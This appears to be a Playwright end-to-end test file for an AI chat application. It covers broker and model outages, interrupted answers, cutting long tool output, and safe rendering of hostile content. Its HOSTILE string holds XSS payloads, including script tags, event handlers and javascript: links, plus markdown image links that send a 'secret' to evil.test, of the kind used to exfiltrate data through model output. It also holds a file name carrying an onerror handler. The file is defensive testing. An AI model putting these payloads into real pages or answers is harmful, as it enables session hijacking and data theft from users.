"""When a part is down, and when what comes from outside is hostile: said on the page, nothing lost, nothing run."""

import json
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, Route, expect

from tests.e2e.chat_page import SLOW, Chat
from tests.e2e.program import Program
from tests.e2e.speech import saying
from tests.stack import Stack

HOSTILE = """<img src=x onerror="document.title='owned'"> <svg/onload=alert(1)> <script>document.title='owned'</script>

![a picture](https://evil.test/?q=secret) ![by name][1] [click](javascript:alert(1)) [data](data:text/html,hi)

<style>body { display: none }</style> <iframe src="https://evil.test/"></iframe> <form action="https://evil.test/">

<div hx-get="/approvals/" hx-trigger="load">swapped</div> <https://evil.test/auto>

```html
</code></pre><script>document.title='owned'</script>
```

| <b onmouseover=alert(1)>cell</b> | [x](vbscript:alert(1)) |
| --- | --- |
| </table><script>document.title='owned'</script> | 2 |

[1]: https://evil.test/reference.png
"""
AT_WORK = ("script", "img", "iframe", "style", "form", "object", "[onerror]", "[onload]", "[onmouseover]", "[hx-get]")


@pytest.fixture
def without_broker(stack: Stack, watch):
    """Valkey is killed; the test may start it, else it is started afterwards."""
    watch.expect("WebSocket", "500", "503", "ERR_", "Failed to fetch")
    stack.kill("valkey")
    started = []

    def start() -> None:
        started.append(True)
        stack.start("valkey")

    yield start
    if not started:
        start()
    stack.wait_until_ready()


def test_without_a_broker_a_message_is_stored_said_to_wait_and_runs_later(ann: Page, program, without_broker):
    told = program("ann")
    chat = Chat.open(ann, told.converse("Echo"))
    chat.ask("[[tokens=2 rate=0 ttft=0]] keep this")
    expect(chat.state.locator("strong")).to_have_text("Queued, waits for a free worker")
    expect(chat.page.locator(".message.user")).to_contain_text("keep this")
    chat.page.reload()
    expect(chat.page.locator(".message.user")).to_contain_text("keep this")
    expect(chat.state.locator("strong")).to_have_text("Queued, waits for a free worker")
    without_broker()
    chat.expect_finished()
    expect(chat.page.locator("#connection")).to_be_hidden()
    chat.ask("[[tokens=2 rate=0 ttft=0]] and again")
    chat.expect_finished()
    chat.expect_same_when_loaded_anew()


def test_without_a_broker_people_can_still_sign_in(page: Page, stack: Stack, without_broker):
    page.goto("/accounts/login/")
    page.locator("[name=login]").fill("ben")
    page.locator("[name=password]").fill(stack.passwords["ben"])
    page.locator("[name=password]").press("Enter")
    expect(page.get_by_role("heading", name="New conversation")).to_be_visible()


def test_a_model_that_cannot_be_reached_is_said_and_trying_again_works(echo: Chat, stack: Stack):
    stack.stop("model")
    try:
        echo.ask("[[tokens=2 rate=0 ttft=0]]")
        echo.expect_finished("Failed")
        expect(echo.state.locator(".notice.danger")).to_contain_text("127.0.0.1")
        expect(echo.state).to_contain_text("The model could not answer.")
        echo.expect_same_when_loaded_anew()
    finally:
        stack.start("model")
    echo.button("Try again").click()
    expect(echo.page.locator(".run")).to_have_count(2)
    echo.expect_finished()
    expect(echo.button("Try again")).to_have_count(0)
    expect(echo.page.locator(".message.user")).to_have_count(1)
    echo.expect_same_when_loaded_anew()


def test_an_answer_that_breaks_off_is_kept_marked_and_written_again(echo: Chat):
    echo.ask("[[tokens=20 rate=20 ttft=0 drop=10]]")
    expect(echo.page.locator(".message.interrupted").first).to_contain_text(
        "This answer was interrupted and does not count.", timeout=SLOW
    )
    echo.expect_finished("Failed")
    echo.expect_same_when_loaded_anew()


def test_what_a_model_says_is_text_and_does_nothing(echo: Chat):
    echo.ask(saying(HOSTILE, rate=200))
    echo.expect_finished()
    for seen in ("<script>", "<img src=x", "<svg/onload", "<style>"):
        expect(echo.answer).to_contain_text(seen)
    _does_nothing(echo)
    links = echo.answer.locator("a").evaluate_all("links => links.map(link => link.href)")
    assert links and all(link.startswith("https://evil.test/") for link in links)
    echo.expect_same_when_loaded_anew()
    _does_nothing(echo)


def test_what_a_tool_and_a_person_say_is_text_and_does_nothing(echo: Chat, program: Callable[[str], Program]):
    told = program("ann")
    hostile = json.dumps(HOSTILE)
    path = json.dumps("<img src=x onerror=alert(1)>.txt")
    calls = f'[[call write_file {{"path": {path}, "content": {hostile}}}]] [[call read_file {{"path": {path}}}]]'
    echo.ask(f"{calls} [[tokens=1 rate=0 ttft=0]] {HOSTILE}")
    echo.expect_waiting()
    _does_nothing(echo)
    assert echo.approve_all() == 1
    echo.expect_finished()
    for card in echo.calls.all():
        card.locator("summary").first.click()
    expect(echo.calls.last).to_contain_text("<script>")
    _does_nothing(echo)
    assert list(told.files(echo.conversation).values()) == [HOSTILE]
    echo.page.get_by_role("link", name="Files", exact=True).click()
    expect(echo.page.locator(".files a")).to_have_text("<img src=x onerror=alert(1)>.txt")


def test_a_thousand_lines_from_a_tool_are_cut_and_can_be_had_in_full(echo: Chat, tmp_path):
    lines = "".join(f"line {number}\n" for number in range(4000))
    call = json.dumps({"path": "long.txt", "content": lines})
    echo.ask(f'[[call write_file {call}]] [[call read_file {{"path": "long.txt"}}]] [[tokens=1 rate=0]]')
    echo.approve_all()
    echo.expect_finished()
    card = echo.calls.last
    card.locator("summary").first.click()
    expect(card.locator(".cut")).to_be_visible()
    with echo.page.expect_download() as wanted:
        card.get_by_role("link", name="Download the full text").click()
    wanted.value.save_as(tmp_path / "result.txt")
    assert "line 3999" in (tmp_path / "result.txt").read_text()


def _does_nothing(chat: Chat) -> None:
    assert "owned" not in chat.page.title() or "owned'" in chat.page.title(), "the title may quote it"
    for selector in AT_WORK:
        expect(chat.page.locator(f"#log .body {selector}, #log .call-body .text-box {selector}")).to_have_count(0)
    assert chat.page.evaluate("getComputedStyle(document.body).display") != "none"


FAILURES = {"lost": lambda route: route.abort(), "refused": lambda route: route.fulfill(status=503)}


@pytest.mark.parametrize("fail", FAILURES.values(), ids=FAILURES)
def test_a_card_that_could_not_be_fetched_is_fetched_again(ann: Page, watch, fail: Callable[[Route], None]):
    watch.expect("ERR_FAILED", "503", "Failed to fetch")
    ann.route("**/cards/call/**", fail)
    chat = Chat.begin(ann, "Assistant", "What is the date today?")
    chat.expect_finished()
    expect(chat.calls).to_have_count(0)
    ann.unroute("**/cards/call/**", fail)
    expect(chat.calls.locator(".state")).to_have_text("Done")
    chat.expect_same_when_loaded_anew()
